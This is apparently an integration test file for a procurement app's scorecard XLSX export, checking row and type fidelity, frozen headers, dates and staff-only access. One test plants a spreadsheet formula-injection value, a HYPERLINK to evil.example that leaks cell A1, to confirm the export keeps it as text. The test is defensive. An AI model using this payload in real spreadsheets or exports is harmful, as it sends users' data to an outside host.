// The scorecard's answer export as XLSX on the real server (PGlite, or PostgreSQL with
// TEST_DATABASE_URL): read back with exceljs, the sheet has the CSV's header and rows, numbers as
// numbers, a frozen header row and widths; a vendor answer "=HYPERLINK(…)" stays text (never a
// formula); the About sheet's dates are dates. Staff only, 404 for unknown or unscored assessments.
import { parse } from "csv-parse/sync";
import ExcelJS from "exceljs";
import { unescapeFormula } from "~/domain/import/csv-format";
import { userActor } from "~/services/audit.server";
import { submitAssessment } from "~/services/assessment-lifecycle.server";
import { SCORECARD_CSV_COLUMNS } from "~/services/scores-csv.server";
import { XLSX_CONTENT_TYPE } from "~/services/scores-xlsx.server";
import { htmlOf, staffMember, vendorSession, type StaffMember } from "../support/findings";
import { answerGolden, issueGolden, publishGolden, type Issued } from "../support/scored-assessment";
import { startTestServer, WebClient, type TestServer } from "../support/server";

const INJECTION = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")';

describe("scorecard XLSX", () => {
  let server: TestServer;
  let staff: StaffMember;
  let scored: Issued;
  let vendor: WebClient;
  let versionId: string;
  const db = () => server.app.ctx.db;

  beforeAll(async () => {
    server = await startTestServer();
    staff = await staffMember(server, "procurement", "Pat Procurement");
    versionId = await publishGolden(server.app.ctx, userActor(staff));
    scored = await issueGolden(server.app.ctx, userActor(staff), versionId, `Tabula AI ${Date.now()}`);
    await answerGolden(server.app.ctx, scored, { incident: "no" });
    // The vendor's free-text answer is a spreadsheet formula.
    await db()
      .updateTable("answers")
      .set({ value: JSON.stringify(INJECTION) })
      .where("assessment_id", "=", scored.assessmentId)
      .where("question_key", "=", "s_notes")
      .execute();
    vendor = await vendorSession(server, scored.grant.email);
    await submitAssessment(server.app.ctx, scored.grant, scored.assessmentId);
  }, 120_000);
  afterAll(async () => {
    await server?.stop();
  });

  async function workbook() {
    const response = await staff.client.get(`/assessments/${scored.assessmentId}/scorecard.xlsx`);
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe(XLSX_CONTENT_TYPE);
    expect(response.headers.get("content-disposition")).toMatch(/^attachment; filename="scorecard-tabula-ai-\d+-\d{4}-\d{2}-\d{2}\.xlsx"$/);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(Buffer.from(await response.arrayBuffer()) as unknown as ExcelJS.Buffer);
    return book;
  }

  it("has the CSV's header and rows, numbers as numbers, booleans as booleans", async () => {
    const book = await workbook();
    const sheet = book.getWorksheet("Scorecard")!;
    const csv = parse(await (await staff.client.get(`/assessments/${scored.assessmentId}/scorecard.csv`)).text(), { columns: false }) as string[][];
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    expect(header).toEqual([...SCORECARD_CSV_COLUMNS]);
    expect(sheet.actualRowCount).toBe(csv.length);
    expect(csv.length).toBeGreaterThan(10);
    for (let r = 2; r <= csv.length; r++) {
      const cells = SCORECARD_CSV_COLUMNS.map((_, c) => sheet.getRow(r).getCell(c + 1).value);
      const expected = csv[r - 1]!.map((text, c) => {
        const column = SCORECARD_CSV_COLUMNS[c]!;
        if (text === "") return null;
        if (["points", "weight", "share", "contribution"].includes(column)) return Number(text);
        if (column === "evidence_valid") return text === "true";
        return unescapeFormula(text);
      });
      expect(cells, `row ${r}`).toEqual(expected);
    }
    const points = SCORECARD_CSV_COLUMNS.indexOf("points") + 1;
    expect(typeof sheet.getRow(2).getCell(SCORECARD_CSV_COLUMNS.indexOf("weight") + 1).value).toBe("number");
    expect(sheet.getColumn(points).numFmt).toBeDefined();
  });

  it("keeps a vendor's formula-looking answer as text, never a formula", async () => {
    const book = await workbook();
    const sheet = book.getWorksheet("Scorecard")!;
    const answer = SCORECARD_CSV_COLUMNS.indexOf("answer") + 1;
    const key = SCORECARD_CSV_COLUMNS.indexOf("question_key") + 1;
    const cells: ExcelJS.Cell[] = [];
    sheet.eachRow((row) => {
      if (row.getCell(key).value === "s_notes") cells.push(row.getCell(answer));
    });
    expect(cells.length).toBeGreaterThan(0);
    for (const cell of cells) {
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.value).toBe(INJECTION);
      expect(cell.formula).toBeUndefined();
    }
    // No cell anywhere in the workbook is a formula.
    book.eachSheet((s) => s.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula))));
  });

  it("freezes the header row, sets column widths, and writes the About sheet's dates as dates", async () => {
    const book = await workbook();
    const sheet = book.getWorksheet("Scorecard")!;
    expect(sheet.views[0]).toMatchObject({ state: "frozen", ySplit: 1 });
    expect(sheet.getColumn(SCORECARD_CSV_COLUMNS.indexOf("question") + 1).width).toBe(60);
    const about = book.getWorksheet("About")!;
    const facts = new Map<string, unknown>();
    about.eachRow((row, n) => {
      if (n > 1) facts.set(String(row.getCell(1).value), row.getCell(2).value);
    });
    const score = await db()
      .selectFrom("scores")
      .select(["scoring_date", "computed_at"])
      .where("assessment_id", "=", scored.assessmentId)
      .executeTakeFirstOrThrow();
    expect(facts.get("scoring_date")).toBeInstanceOf(Date);
    expect((facts.get("scoring_date") as Date).toISOString().slice(0, 10)).toBe(score.scoring_date);
    expect(facts.get("computed_at")).toBeInstanceOf(Date);
    expect(Math.abs((facts.get("computed_at") as Date).getTime() - score.computed_at.getTime())).toBeLessThan(1000);
    expect(facts.get("rows")).toBe(sheet.actualRowCount - 1);
  });

  it("is linked beside the CSV; staff only; 404 for unknown or unscored assessments", async () => {
    const html = await htmlOf(await staff.client.get(`/assessments/${scored.assessmentId}/scorecard`));
    expect(html).toContain(`href="/assessments/${scored.assessmentId}/scorecard.xlsx"`);
    const response = await vendor.get(`/assessments/${scored.assessmentId}/scorecard.xlsx`);
    expect(response.status).toBe(302);
    expect(response.headers.get("location")).toMatch(/^\/login/);
    expect((await staff.client.get(`/assessments/00000000-0000-4000-8000-000000000000/scorecard.xlsx`)).status).toBe(404);
    const unscored = await issueGolden(server.app.ctx, userActor(staff), versionId);
    expect((await staff.client.get(`/assessments/${unscored.assessmentId}/scorecard.xlsx`)).status).toBe(404);
  });
});
